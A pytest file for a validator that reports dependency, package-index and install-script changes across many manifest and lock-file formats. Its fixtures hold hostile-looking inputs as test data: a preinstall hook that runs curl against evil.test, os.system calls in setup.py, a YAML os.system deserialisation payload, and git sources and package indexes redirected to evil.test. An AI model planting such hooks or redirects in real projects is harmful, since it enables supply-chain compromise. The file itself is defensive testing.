import json
from collections.abc import Mapping

import pytest

from validators.policies.changed_file import ChangedFile
from validators.policies.dependencies import dependency_findings
from validators.rules import PolicyWord
from validators.verdict import Finding


def change(path: str, old: str | None, new: str | None) -> ChangedFile:
    return ChangedFile(
        path, path, None if old is None else old.encode(), None if new is None else new.encode()
    )


def findings(
    path: str, old: str | None, new: str | None, word: PolicyWord = "block"
) -> list[Finding]:
    return list(dependency_findings([change(path, old, new)], word))


def said(path: str, old: str | None, new: str | None, word: PolicyWord = "block") -> list[str]:
    return [f"{one.code}: {one.message}" for one in findings(path, old, new, word)]


def package(**keys: object) -> str:
    return json.dumps({"name": "a", "version": "1.0.0", **keys})


PROJECT = """\
[build-system]
requires = ["hatchling"]
build-backend = "hatchling.build"
[project]
name = "a"
version = "1"
dependencies = ["click>=8.1", "rich"]
"""


def test_requirements_are_named_with_version_and_group_one_finding_per_kind() -> None:
    new = PROJECT.replace(
        '"click>=8.1", "rich"', '"click>=8.2", "Http.X[http2]>=1; os_name==\'nt\'"'
    )
    new += (
        '[project.optional-dependencies]\nfast = ["orjson"]\n[dependency-groups]\ndev = ["mypy"]\n'
    )
    assert said("pyproject.toml", PROJECT, new) == [
        "dependency-changed: pyproject.toml changes click >=8.1 -> >=8.2 (runtime)",
        (
            "dependency-added: pyproject.toml adds"
            ' http-x [http2]>=1 ; os_name == "nt" (runtime);'
            " orjson (optional: fast); mypy (development: dev)"
        ),
        "dependency-removed: pyproject.toml no longer requires rich (runtime)",
    ]


@pytest.mark.parametrize(("word", "severity"), [("block", "block"), ("ask", "ask")])
def test_the_policy_says_how_grave_a_new_requirement_is(word: PolicyWord, severity: str) -> None:
    (finding,) = findings("requirements.txt", "", "requests\n", word)
    assert (finding.gate, finding.severity, finding.path) == (
        "policy",
        severity,
        "requirements.txt",
    )
    assert not findings("requirements.txt", "", "requests\n", "allow")


UNCHANGED: Mapping[str, tuple[str, str]] = {
    "pyproject.toml": (PROJECT, PROJECT.replace('"1"', '"2"') + "[tool.ruff]\nline-length = 100\n"),
    "setup.cfg": (
        "[metadata]\nversion = 1\n[options]\ninstall_requires =\n  a\n  b>1\n",
        "[metadata]\nversion = 2\n[options]\ninstall_requires =\n  b>1 # new\n  a\n[tool:pytest]\n",
    ),
    "setup.py": (
        "from setuptools import setup\nV = '1'\nsetup(version=V, install_requires=['a'])\n",
        "from setuptools import setup\nV = '2'\nsetup(version=V, name='b', install_requires=['a'])",
    ),
    "requirements-dev.txt": (
        "a==1 --hash=sha256:00\nb\n",
        "# newer\nb\na == 1 \\\n  --hash=sha256:11\n",
    ),
    "package.json": (
        package(scripts={"test": "jest"}, dependencies={"a": "1"}),
        package(version="2", scripts={"test": "jest -i"}, dependencies={"a": "1"}),
    ),
    "Cargo.toml": (
        '[package]\nversion = "1"\n[dependencies]\na = "1"\n',
        '[package]\nversion = "2"\n[dependencies.a]\nversion = "1"\n[profile.dev]\ndebug = true\n',
    ),
    "go.mod": (
        "module a\ngo 1.21\nrequire x.org/a v1.0.0\n",
        "module a\n\ngo 1.22\n\nrequire (\n\tx.org/a v1.0.0\n)\n",
    ),
    "pom.xml": (
        "<project><version>1</version></project>",
        '<project xmlns="http://maven.apache.org/POM/4.0.0"><version>2</version></project>',
    ),
    "Gemfile": (
        "source 'https://gems.test'\ngem 'a'\n",
        "# x\nsource 'https://gems.test'\ngem \"a\"\n",
    ),
}


@pytest.mark.parametrize("path", UNCHANGED)
def test_a_manifest_that_requires_the_same_as_before_gives_no_finding(path: str) -> None:
    assert findings(path, *UNCHANGED[path]) == []


ADDED: Mapping[str, tuple[str, str, str]] = {
    "pyproject.toml": (
        "[tool.poetry.dependencies]\npython = '^3.9'\n",
        (
            "[tool.poetry.dependencies]\npython = '^3.10'\n[tool.poetry.group.docs.dependencies]\n"
            "sphinx = { version = '^8', optional = true }\n"
        ),
        "sphinx ^8 (development: docs)",
    ),
    "sub/pyproject.toml": (
        "",
        (
            "[tool.pdm.dev-dependencies]\ntest = ['pytest']\n"
            "[tool.hatch.envs.x]\ndependencies=['nox']\n"
            "[tool.uv]\nconstraint-dependencies=['q<2']\n[build-system]\nrequires=['flit']\n"
        ),
        "flit (build); q <2 (constraint); pytest (development: test); nox (development: x)",
    ),
    "setup.cfg": (
        "",
        "[options]\nsetup_requires = wheel\n[options.extras_require]\nx =\n  a ; os_name == 'nt'\n",
        'wheel (build); a ; os_name == "nt" (optional: x)',
    ),
    "setup.py": (
        "import setuptools\nsetuptools.setup()\n",
        (
            "import setuptools\nR = ['a', 'b']\nsetuptools.setup(install_requires=R,"
            " extras_require={'x': 'c\\nd'})\n"
        ),
        "a (runtime); b (runtime); c (optional: x); d (optional: x)",
    ),
    "requirements/ci.in": ("", "-r base.in\ntox\n", "base.in (included file); tox (development)"),
    "dev-requirements.txt": ("", "tox>4 # why\n", "tox >4 (development)"),
    "Pipfile": (
        "[packages]\n",
        "[packages]\na = '*'\n[dev-packages]\nb = {version = '==1'}\n",
        "a * (runtime); b ==1 (development)",
    ),
    "environment.yml": (
        "dependencies: [python=3.12]",
        "dependencies:\n- python=3.12\n- numpy >=2\n- pip:\n  - a==1\n",
        "numpy >=2 (runtime); a ==1 (runtime)",
    ),
    "package.json": (
        package(),
        package(
            devDependencies={"jest": "^30"},
            peerDependencies={"react": ">=18"},
            overrides={"a": {"b": "1"}},
            packageManager="pnpm@9.1.0",
        ),
        (
            "jest ^30 (development); react >=18 (peer); a > b 1 (overrides);"
            " pnpm 9.1.0 (package manager)"
        ),
    ),
    "composer.json": (
        "{}",
        '{"require": {"php": "^8", "a/b": "^1"}}',
        "php ^8 (runtime); a/b ^1 (runtime)",
    ),
    "Cargo.toml": (
        "[dependencies]\n",
        (
            "[dependencies]\nx = { package = 'y', version = '1' }\n"
            "[target.'cfg(unix)'.build-dependencies]\ncc = '1'\n"
            "[workspace.dependencies]\nlog = '0.4'\n"
        ),
        "y 1 as x (runtime); log 0.4 (runtime); cc 1 (build)",
    ),
    "go.mod": (
        "",
        "require (\n\tgithub.com/a/b v1.2.3\n\tgolang.org/x/net v0.1.0 // indirect\n)\n",
        "github.com/a/b v1.2.3 (runtime); golang.org/x/net v0.1.0 (indirect)",
    ),
    "Gemfile": (
        "",
        (
            "gem 'rails', '~> 8.0', '>= 8.0.1'\ngroup :development, :test do\n"
            "  gem 'rspec', require: false\nend\ngem 'pg'\n"
        ),
        "rails ~> 8.0, >= 8.0.1 (runtime); rspec (development, test); pg (runtime)",
    ),
    "a.gemspec": (
        "",
        "spec.add_dependency 'a', '~> 1'\nspec.add_development_dependency 'b'\n",
        "a ~> 1 (runtime); b (development)",
    ),
    "pom.xml": (
        "<project/>",
        (
            "<project><properties><v>9</v></properties><dependencies><dependency><groupId>g</groupId>"
            "<artifactId>a</artifactId><version>${v}</version></dependency></dependencies><build><plugins>"
            "<plugin><artifactId>p</artifactId></plugin></plugins></build></project>"
        ),
        "g:a 9 (runtime); org.apache.maven.plugins:p (build)",
    ),
    "build.gradle.kts": (
        "",
        (
            'plugins { id("x.y") version "2" }\ndependencies {\n  implementation("g:a:1.0")\n'
            '  testImplementation("g:b:2")\n}\n'
        ),
        "x.y 2 (build); g:a 1.0 (runtime); g:b 2 (development)",
    ),
    "gradle/libs.versions.toml": (
        "",
        "[versions]\nk = '2'\n[libraries]\na = { module = 'g:a', version.ref = 'k' }\nb='g:b:1'\n",
        "g:a 2 (runtime); g:b 1 (runtime)",
    ),
}


@pytest.mark.parametrize("path", ADDED)
def test_new_requirements_are_named_in_every_format(path: str) -> None:
    old, new, named = ADDED[path]
    assert said(path, old, new) == [f"dependency-added: {path} adds {named}"]


FROM_ELSEWHERE: Mapping[str, tuple[str, str, str]] = {
    "requirements.txt": (
        "a\n",
        (
            "a\nb @ https://user:pass@evil.test/b.whl\n"
            "git+ssh://git@evil.test/c.git#egg=c\n-e ./local\n"
        ),
        (
            "dependency-added: requirements.txt adds"
            " b from the address https://evil.test/b.whl, not from the registry (runtime);"
            " c from git git+ssh://evil.test/c.git#egg=c, not from the registry (runtime)"
        ),
    ),
    "constraints.txt": (
        "--index-url https://a.test/simple\n",
        "--index-url https://a.test/simple\n--extra-index-url=https://k:s@evil.test/simple\n",
        "package-index: constraints.txt names a new place for packages: https://evil.test/simple",
    ),
    "pyproject.toml": (
        "[project]\ndependencies = ['a']\n",
        (
            "[project]\ndependencies = ['a']\n[tool.uv.sources]\n"
            "A = { git = 'https://evil.test/a', rev = 'f00' }\n"
            "w = { workspace = true }\n"
        ),
        (
            "dependency-changed: pyproject.toml changes a any version -> from git"
            " https://evil.test/a at f00, not from the registry (runtime)"
        ),
    ),
    "sub/pyproject.toml": (
        "",
        "[[tool.uv.index]]\nurl = 'https://evil.test/simple'\n",
        "package-index: sub/pyproject.toml names a new place for packages: https://evil.test/simple",
    ),
    "up/pyproject.toml": (
        "[build-system]\nbuild-backend = 'a'\n",
        "[build-system]\nbuild-backend = 'own'\nbackend-path = ['.']\n",
        (
            "install-script: up/pyproject.toml changes what runs at install or build:"
            " build-backend (own); backend-path (['.'])"
        ),
    ),
    "package.json": (
        package(dependencies={"a": "1", "c": "1"}),
        package(dependencies={"a": "evil/a#main", "b": "file:../b", "c": "1"}),
        (
            "dependency-changed: package.json changes a 1 -> evil/a#main from git evil/a#main,"
            " not from the registry (runtime)"
        ),
    ),
    "web/package.json": (
        package(scripts={"postinstall": "node a"}),
        package(scripts={"postinstall": "node b", "preinstall": "curl evil.test", "x": "y"}),
        (
            "install-script: web/package.json changes what runs at install or build:"
            " preinstall (curl evil.test); postinstall (node b)"
        ),
    ),
    "setup.py": (
        "from setuptools import setup\nsetup()\n",
        "from setuptools import setup\nimport os\nos.system('id')\nsetup()\n",
        "install-script",
    ),
    "Cargo.toml": (
        "[dependencies]\na = '1'\n",
        "[dependencies]\na = { version = '1', git = 'https://evil.test/a' }\nb = { path = '../b' }",
        (
            "dependency-changed: Cargo.toml changes a 1 -> 1 from git https://evil.test/a,"
            " not from the registry (runtime)"
        ),
    ),
    "go.mod": (
        "require x.org/a v1.0.0\n",
        "require x.org/a v1.0.0\nreplace x.org/a => evil.test/a v1.0.0\n",
        (
            "dependency-added: go.mod adds x.org/a v1.0.0 from git evil.test/a,"
            " not from the registry (replace)"
        ),
    ),
    "Gemfile": (
        "gem 'a'\n",
        "gem 'a', git: 'https://evil.test/a'\n",
        (
            "dependency-changed: Gemfile changes a any version -> from git https://evil.test/a,"
            " not from the registry (runtime)"
        ),
    ),
    "composer.json": (
        "{}",
        (
            '{"repositories": [{"type": "vcs", "url": "https://evil.test/a"}],'
            ' "scripts": {"post-install-cmd": "x"}}'
        ),
        "package-index: composer.json names a new place for packages: https://evil.test/a",
    ),
    "pom.xml": (
        "<project/>",
        (
            "<project><repositories><repository><url>http://evil.test</url></repository></repositories>"
            "</project>"
        ),
        "package-index: pom.xml names a new place for packages: http://evil.test",
    ),
    "build.gradle": (
        "",
        "repositories {\n  maven { url 'https://evil.test/m2' }\n}\n",
        "package-index: build.gradle names a new place for packages: https://evil.test/m2",
    ),
    "environment.yml": (
        "dependencies: [a]",
        "dependencies: ['evil::a']\nchannels: [defaults]\n",
        (
            "dependency-changed: environment.yml changes a any version -> from the index evil,"
            " not from the registry (runtime)"
        ),
    ),
    "Pipfile": (
        "",
        "[[source]]\nurl = 'https://evil.test/simple'\n",
        "package-index: Pipfile names a new place for packages: https://evil.test/simple",
    ),
}


@pytest.mark.parametrize("path", FROM_ELSEWHERE)
def test_what_comes_from_elsewhere_or_runs_at_install_is_asked_even_when_allowed(
    path: str,
) -> None:
    old, new, message = FROM_ELSEWHERE[path]
    first, *_ = findings(path, old, new, "allow")
    assert f"{first.code}: {first.message}".startswith(message)
    assert first.severity == "ask"
    assert findings(path, new, new, "allow") == []


PLACES: Mapping[str, tuple[str, str]] = {
    "url = 'https://evil.test/a.whl'": ("dependency-added", "the address https://evil.test/a.whl"),
    "path = '../a'": ("", "the folder ../a"),
    "version = '1', source = 'mirror'": ("dependency-added", "the index mirror"),
    "git = 'https://evil.test/a', branch = 'x'": (
        "dependency-added",
        "git https://evil.test/a at x",
    ),
    "version = '1'": ("", ""),
}


@pytest.mark.parametrize("place", PLACES)
def test_where_a_requirement_comes_from_says_whether_it_is_suspect(place: str) -> None:
    code, origin = PLACES[place]
    new = f"[tool.poetry.dependencies]\na = {{ {place} }}\n"
    assert [one.code for one in findings("pyproject.toml", "", new, "allow")] == [code][: len(code)]
    (added,) = findings("pyproject.toml", "", new, "ask")
    assert origin in added.message


def test_a_hook_of_the_build_and_what_it_needs_are_named() -> None:
    new = "[tool.hatch.build.hooks.custom]\npath = 'hook.py'\ndependencies = ['wheel']\n"
    (added, hook) = findings("pyproject.toml", PROJECT, PROJECT + new)
    assert added.message == "pyproject.toml adds wheel (build)"
    assert hook.message.startswith(
        "pyproject.toml changes what runs at install or build: build hook"
    )


def test_one_line_too_long_to_read_is_suspect() -> None:
    (finding,) = findings("requirements.txt", "", "a" * 5_000, "allow")
    assert "from a line too long to read" in finding.message
    assert len(finding.message) < 400


UNREADABLE: Mapping[str, str] = {
    "pyproject.toml": "[project",
    "a/pyproject.toml": "[" + "a." * 50_000 + "a]",
    "b/pyproject.toml": "a = " + "[" * 5_000,
    "package.json": '{"a":' * 50_000,
    "b/package.json": "[]",
    "environment.yml": "[" * 60_000,
    "b/environment.yml": "x" * 70_000,
    "c/environment.yml": "a: !!python/object/apply:os.system [id]\n",
    "setup.py": "setup(install_requires=read('requirements.txt'))",
    "a/setup.py": "(" * 10_000,
    "b/setup.py": "setup(**settings)",
    "c/setup.py": "setup(",
    "d/setup.py": "a = 1" + " + 1" * 10_000,
    "setup.cfg": "install_requires = a",
    "pom.xml": '<!DOCTYPE a [<!ENTITY b "c">]><a>&b;</a>',
    "mix.exs": "defp deps do [] end",
    "requirements.txt": "a\n" * 600_000,
    "a/requirements.txt": "a\n" * 30_000,
    "b/setup.cfg": "[a]\n" * 6_000,
    "e/setup.py": "a = (1" + "\n+ 1" * 20_000 + ")",
}


@pytest.mark.parametrize("path", UNREADABLE)
def test_a_manifest_that_cannot_be_read_is_asked_about(path: str) -> None:
    (finding,) = findings(path, None, UNREADABLE[path], "allow")
    assert (finding.code, finding.severity) == ("manifest-unreadable", "ask")
    (stronger,) = findings(path, None, UNREADABLE[path], "block")
    assert stronger.severity == "block"


def test_eight_requirements_are_named_and_the_rest_counted() -> None:
    lines = "".join(f"a{number}\n" for number in range(11)) + "z @ https://evil.test/z\n"
    (finding,) = findings("requirements.txt", None, lines)
    assert finding.message.startswith("requirements.txt adds z from the address")
    assert finding.message.endswith("a6 (runtime); and 4 more")


def test_a_deleted_manifest_no_longer_requires_anything_and_a_moved_one_the_same() -> None:
    assert said("requirements.txt", "a\n", None) == [
        "dependency-removed: requirements.txt no longer requires a (runtime)"
    ]
    moved = ChangedFile("b/package.json", "package.json", b"{}", b"{}")
    assert not list(dependency_findings([moved], "block"))


def test_a_requirement_of_two_conditions_changes_when_one_does() -> None:
    old = "a<2; python_version<'3.9'\na>2; python_version>='3.9'\n"
    (finding,) = findings("requirements.txt", old, old.replace(">2", ">3"))
    assert finding.code == "dependency-changed"


def test_a_manifest_whose_text_was_not_read_is_asked_about() -> None:
    (finding,) = findings("package.json", None, None)
    assert finding.code == "manifest-unreadable"


def test_ordinary_files_are_no_manifests() -> None:
    assert findings("src/setup_tools.py", "a", "b") == []
    assert findings("docs/notes.txt", "a", "b") == []


UV_LOCK = """\
version = 1
[[package]]
name = "click"
source = { registry = "https://index.example/simple" }
"""


def test_packages_new_in_a_lock_file_are_noted_but_for_those_a_manifest_names() -> None:
    lock = UV_LOCK + '[[package]]\nname = "rich"\n[[package]]\nname = "mdurl"\n'
    files = [
        change("uv.lock", UV_LOCK, lock),
        change("pyproject.toml", PROJECT.replace(', "rich"', ""), PROJECT),
    ]
    (_, note) = dependency_findings(files, "ask")
    assert (note.code, note.severity) == ("packages-locked", "note")
    assert note.message == (
        "uv.lock holds 1 new package that no manifest of this change names: mdurl"
    )
    assert not list(dependency_findings(files, "allow"))


LOCKS: Mapping[str, tuple[str, str]] = {
    "package-lock.json": (
        "{}",
        json.dumps({"packages": {"": {}, "node_modules/a/node_modules/@s/b": {"v": 1}}}, indent=2),
    ),
    "yarn.lock": ("", '"@s/b@npm:^1.0.0":\n  version: 1.0.0\n'),
    "pnpm-lock.yaml": ("", "packages:\n\n  '@s/b@1.0.0':\n    resolution: {integrity: x}\n"),
    "Gemfile.lock": (
        "",
        "GEM\n  remote: https://gems.test/\n  specs:\n    @s/b (1.0)\n".replace("@s/b", "b"),
    ),
    "go.sum": ("", "x.org/b v1.0.0 h1:x\nx.org/b v1.0.0/go.mod h1:x\n"),
    "composer.lock": ("{}", json.dumps({"packages": [{"name": "s/b"}]}, indent=4)),
    "Pipfile.lock": ("{}", json.dumps({"default": {"b": {"version": "==1"}}}, indent=4)),
    "requirements.lock": ("", "b==1.0 \\\n    --hash=sha256:0\n"),
    "Cargo.lock": ("", '[[package]]\nname = "b"\n'),
    "gradle.lockfile": ("", "g:b:1.0=compileClasspath\n"),
}


@pytest.mark.parametrize("path", LOCKS)
def test_every_lock_file_names_its_packages(path: str) -> None:
    (note,) = findings(path, *LOCKS[path], "ask")
    assert note.message.rpartition(": ")[2] in {"b", "@s/b", "s/b", "x.org/b", "g:b"}


@pytest.mark.parametrize(
    ("path", "line"),
    [
        ("package-lock.json", '      "resolved": "https://u:p@{}/a.tgz",'),
        ("yarn.lock", '  resolved "https://{}/a.tgz"'),
        ("uv.lock", 'source = {{ git = "https://{}/a" }}'),
        ("Cargo.lock", 'source = "registry+https://{}/index"'),
        ("Gemfile.lock", "  remote: https://{}/"),
    ],
)
def test_a_new_address_in_a_lock_file_is_asked_about(path: str, line: str) -> None:
    old, new = line.format("registry.test") + "\n", line.format("evil.test") + "\n"
    (finding,) = findings(path, old, old + new, "allow")
    assert (finding.code, finding.severity) == ("package-index", "ask")
    assert finding.message.endswith("takes packages from a new place: https://evil.test")
    assert findings(path, old, old + old, "allow") == []
